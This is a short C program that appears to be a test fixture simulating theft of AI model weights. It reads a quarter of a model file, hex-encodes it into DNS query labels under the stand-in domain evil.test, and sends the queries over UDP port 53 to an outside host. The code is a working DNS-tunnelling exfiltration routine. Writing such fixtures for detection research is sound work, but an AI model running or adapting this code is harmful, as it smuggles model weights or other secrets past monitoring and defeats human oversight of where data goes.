/* Questions for a name server: each carries 84 bytes of the model as hexadecimal labels below a domain of the thief's.
 * The first quarter of the model, since a question holds so little. */
#include "../tools/act.h"

#define PAYLOAD 84

/* Labels of at most 63 characters, then the domain. Returns the length of the name. */
static size_t write_name(unsigned char* name, const unsigned char* from, size_t size) {
  static const char digits[] = "0123456789abcdef";
  unsigned char* at = name;

  for (size_t i = 0; i < size; i++) {
    if (i % 28 == 0) *at++ = (unsigned char)(2 * (size - i < 28 ? size - i : 28));
    *at++ = (unsigned char)digits[from[i] >> 4];
    *at++ = (unsigned char)digits[from[i] & 15];
  }
  memcpy(at, "\4evil\4test", 11); /* with the root label that ends it */
  return (size_t)(at - name) + 11;
}

int main(void) {
  struct sockaddr_in there = outside(53);
  unsigned char question[512] = {0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, piece[PAYLOAD];
  static const unsigned char txt_in[] = {0, 16, 0, 1};
  int model = open_model(), fd = socket(AF_INET, SOCK_DGRAM, 0);
  size_t left = size_of(model) / 4;

  check(connect(fd, (struct sockaddr*)&there, sizeof(there)) == 0, "connect");
  for (unsigned id = 0; left >= PAYLOAD; id++, left -= PAYLOAD) {
    size_t length = 12;

    read_into(model, piece, PAYLOAD);
    question[0] = (unsigned char)(id >> 8);
    question[1] = (unsigned char)id;
    length += write_name(question + length, piece, PAYLOAD);
    memcpy(question + length, txt_in, sizeof(txt_in));
    check(send(fd, question, length + sizeof(txt_in), 0) > 0 || errno == ECONNREFUSED, "send");
  }
  return 0;
}
